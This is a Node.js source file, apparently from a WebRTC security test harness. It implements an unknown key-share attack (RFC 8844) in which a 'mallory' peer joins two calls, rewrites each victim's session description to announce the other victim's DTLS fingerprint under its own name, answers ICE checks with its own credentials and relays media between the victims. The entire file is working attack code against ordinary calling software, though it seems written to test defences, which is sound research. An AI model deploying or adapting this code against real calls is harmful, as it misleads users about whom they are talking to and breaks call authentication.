// SPDX-License-Identifier: GPL-2.0-or-later
// Unknown key-share (RFC 8844): mallory takes part in two calls under its own name, and announces in each a copy of
// the other victim's fingerprint. The victims' DTLS is with each other, and both believe it is with mallory.
// transport "own": mallory has ICE credentials of its own, answers checks as an ICE-lite agent, and passes all other
// packets on as they are. transport "copied": the credentials and candidates are copied as well, and the victims
// reach each other directly.
'use strict';
const crypto = require('crypto');
const dgram = require('dgram');
const WebSocket = require('ws');
const stun = require('./stun');
const { config, tell, serve } = require('../peers/line');

const random = count => crypto.randomBytes(count).toString('hex');

/** One of the two calls: the connection to the signalling, and the port towards the victim of this call. */
class Leg {
    constructor(room, port) {
        Object.assign(this, { port, ufrag: random(4), password: random(12), unsent: [], ready: false, victim: null });
        this.socket = new WebSocket(config.url);
        this.socket.on('open', () => this.socket.send(JSON.stringify({ type: 'join', room, name: config.name })));
        this.socket.on('message', data => this.heard(JSON.parse(data)));
        this.media = dgram.createSocket('udp4').bind(port);
        this.media.on('message', (data, from) => this.packet(data, from));
    }

    heard({ type, sdp, candidate }) {
        if (type === 'ready') {
            this.ready = true;
            this.unsent.splice(0).forEach(message => this.socket.send(JSON.stringify(message)));
        } else if (sdp) {
            this.other.say({ type, sdp: this.other.claim(sdp) });
        } else if (type === 'candidate' && config.transport === 'copied') {
            this.other.say({ type, candidate });
        }
    }

    say(message) {
        if (this.ready)
            this.socket.send(JSON.stringify(message));
        else
            this.unsent.push(message);
    }

    /** The other victim's description as mallory's own. */
    claim(sdp) {
        const origin = `o=mallory 77006600${this.port} 2 IN IP4 ${config.address}`;
        const lines = sdp.split('\r\n').map(line => line.replace(/^o=.*/, origin)
            .replace(/^(a=msid:)\S+/, '$1mallory').replace(/( cname:).*/, '$1mallory'));
        if (config.transport === 'copied')
            return lines.join('\r\n');
        const candidate = `a=candidate:1 1 udp 2130706431 ${config.address} ${this.port} typ host`;
        return lines.filter(line => !/^a=(candidate:|end-of-candidates|ice-options)/.test(line)).map(line => line
            .replace(/^a=ice-ufrag:.*/, `a=ice-ufrag:${this.ufrag}\r\n${candidate}`)
            .replace(/^a=ice-pwd:.*/, `a=ice-pwd:${this.password}`)
            .replace(/^t=0 0$/, 't=0 0\r\na=ice-lite')).join('\r\n');
    }

    packet(data, from) {
        if (!stun.isMessage(data)) {
            if (this.other.victim)
                this.other.media.send(data, this.other.victim.port, this.other.victim.address);
            return;
        }
        const answer = stun.answer(data, from, this.password);
        if (answer) {
            this.victim = from;
            this.media.send(answer, from.port, from.address);
        }
    }
}

const legs = config.rooms.map((room, n) => new Leg(room, 41001 + n));
legs.forEach((leg, n) => { leg.other = legs[1 - n]; });
Promise.all(legs.map(leg => new Promise(resolve => leg.socket.on('open', resolve)))).then(() => tell('ready'));
serve({
    report: async () => ({ log: [] }),
    quit: () => legs.forEach(leg => { leg.socket.close(); leg.media.close(); }),
});
